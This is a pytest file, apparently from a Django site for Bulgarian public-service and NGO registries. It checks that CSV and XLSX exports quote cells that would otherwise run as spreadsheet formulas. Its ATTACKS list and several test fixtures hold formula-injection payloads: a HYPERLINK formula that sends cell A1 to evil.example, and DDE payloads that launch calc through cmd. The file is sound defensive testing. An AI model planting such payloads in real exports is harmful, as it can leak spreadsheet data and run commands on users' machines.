"""Formula ("CSV") injection: no cell of any export is run as a formula by a spreadsheet program."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth import get_user_model

from registry_pages.core.spreadsheets import spreadsheet_cell
from registry_pages.models import ServiceFeedback
from registry_pages.opendata.responses import csv_text
from tests.registry_pages.ngos.support import activity_field, entry, register
from tests.registry_pages.services.support import card, catalogue, category

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Кликнете")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_starts_a_formula_is_quoted(attack):
    assert spreadsheet_cell(attack) == "'" + attack
    assert spreadsheet_cell(attack, xlsx=True).startswith("'")


def test_numbers_and_ordinary_text_are_unchanged():
    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert spreadsheet_cell(2.5) == 2.5 and spreadsheet_cell(None) is None
    assert spreadsheet_cell("Удостоверение за наследници") == "Удостоверение за наследници"
    assert spreadsheet_cell("a=b") == "a=b" and spreadsheet_cell("") == ""
    assert spreadsheet_cell("-3") == "'-3"  # text, not a number: OWASP quotes it


def test_xlsx_cells_lose_characters_openpyxl_refuses():
    assert spreadsheet_cell("bell\x07 and\x00 null", xlsx=True) == "bell and null"
    assert spreadsheet_cell("\x07=1+1", xlsx=True) == "'=1+1"
    assert spreadsheet_cell("tab\tinside") == "tab\tinside"


def test_public_csv_quotes_formulas_and_keeps_negative_numbers():
    text = csv_text(["=header", "n"], [[ATTACKS[0], -5], ["@SUM(A1)", Decimal("-2.50")], ["-5", None]])
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows == [["'=header", "n"], ["'" + ATTACKS[0], "-5"], ["'@SUM(A1)", "-2.50"], ["'-5", ""]]


def _csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_service_catalogue_export_csv_quotes_a_formula_title(client, site_root):
    index = catalogue(site_root, slug="t-formula-services")
    card(index, '=HYPERLINK("http://evil.example","Услуга")', category("Тестова категория за формули"))
    rows = _csv_rows(client.get(index.url + "export.csv"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=HYPERLINK(\"http://evil.example\",\"Услуга\")" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


@pytest.mark.django_db
def test_ngo_register_export_csv_quotes_formula_fields(client, site_root):
    reg = register(site_root, slug="t-formula-npo")
    entry(reg, "@SUM(1+1) Сдружение", [activity_field("Тестова област за формули")], consent=True, head_name="+cmd|' /C calc'!A0")
    rows = _csv_rows(client.get(reg.url + "export.csv"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'@SUM(1+1) Сдружение" in cells and "'+cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@", "-")) for cell in cells)


@pytest.mark.django_db
def test_json_export_keeps_the_data_as_it_is(client, site_root):
    reg = register(site_root, slug="t-formula-npo-json")
    entry(reg, "@SUM(1+1) Сдружение", [activity_field("Тестова област за JSON")])
    assert "@SUM(1+1) Сдружение" in [item["name"] for item in client.get(reg.url + "export.json").json()["items"]]


@pytest.mark.django_db
def test_feedback_report_exports_quote_a_formula_service_title(client, site_root):
    service = card(catalogue(site_root, slug="t-formula-feedback"), "=1+1 Услуга", category("Тестова категория отзиви"))
    ServiceFeedback.objects.create(page=service, helpful=False, language="bg", comment="-1 лош отговор")
    client.force_login(get_user_model().objects.create_superuser("t_formula_admin", "f@example.org", "pw"))
    rows = _csv_rows(client.get("/admin/service-feedback-report/report/", {"export": "csv"}))
    row = next(row for row in rows if "=1+1 Услуга" in row[1])
    assert row[1] == "'=1+1 Услуга" and row[2:5] == ["0", "1", "1"]  # counts stay numbers
    xlsx = client.get("/admin/service-feedback-report/report/", {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    values = [row for row in sheet.iter_rows(values_only=True) if row[1] and "Услуга" in row[1] and "=1+1" in row[1]]
    assert values[0][1] == "'=1+1 Услуга" and values[0][3] == 1  # a number cell, not text


def test_importers_take_the_quote_off_again():
    from registry_pages.core.spreadsheets import unquote_cell

    assert unquote_cell(spreadsheet_cell("+359 88 765 4321")) == "+359 88 765 4321"
    assert unquote_cell("'quoted on purpose'") == "'quoted on purpose'"
